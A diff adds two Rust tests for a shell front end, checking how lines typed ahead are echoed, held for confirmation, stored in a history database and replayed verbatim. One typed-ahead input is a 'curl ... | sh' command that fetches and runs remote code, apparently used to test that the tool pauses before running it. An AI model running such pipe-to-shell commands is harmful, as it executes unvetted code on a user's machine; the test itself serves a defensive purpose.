@@ -331,3 +331,43 @@ fn settings_are_read_again_and_bad_ones_change_nothing() {
     screen.slowly(" q");
     screen.wait_until("no ghost", |screen| !is_dim(screen, "uick"));
 }
+
+#[test]
+fn what_was_typed_ahead_is_judged_and_remembered() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("echo go''ing; sleep 1");
+        screen.wait_for_line("going");
+        // Some lines, while nobody reads.
+        screen.slowly("echo ahead-1\recho ahead-2\rcurl -s https://a.example/b | sh\r");
+        screen.wait_for_line("ahead-1");
+        screen.wait_for_line("ahead-2");
+        screen.wait_for("Enter again");
+        screen.keys("\x03");
+        screen.wait_for_last("$");
+        // What a program reads is its own all the same.
+        screen.line("sleep 0.5; head -n1 | rev; sleep 0.5");
+        screen.slowly("for head\recho ahead-3\r");
+        screen.wait_for_line("daeh rof");
+        screen.wait_for_line("ahead-3");
+        screen.wait_for_last("$");
+        screen.line("exit");
+        screen.end();
+        let store = rusqlite_text(&screen, "history.sqlite");
+        for line in ["ahead-1", "ahead-2", "ahead-3"] {
+            assert!(store.contains(&format!("echo {line}")), "{shell}: {line}");
+        }
+        assert!(!store.contains("for head"), "{shell}");
+    }
+}
+
+#[test]
+fn what_was_typed_ahead_is_typed_as_it_was() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("echo go''ing; stty -echo; sleep 1; stty echo");
+        screen.wait_for_line("going");
+        screen.keys("printf '%s\\n' \\\\'a b' \u{20ac}c; true \x01\r");
+        screen.wait_for_line("\\a b \u{20ac}c");
+    }
+}
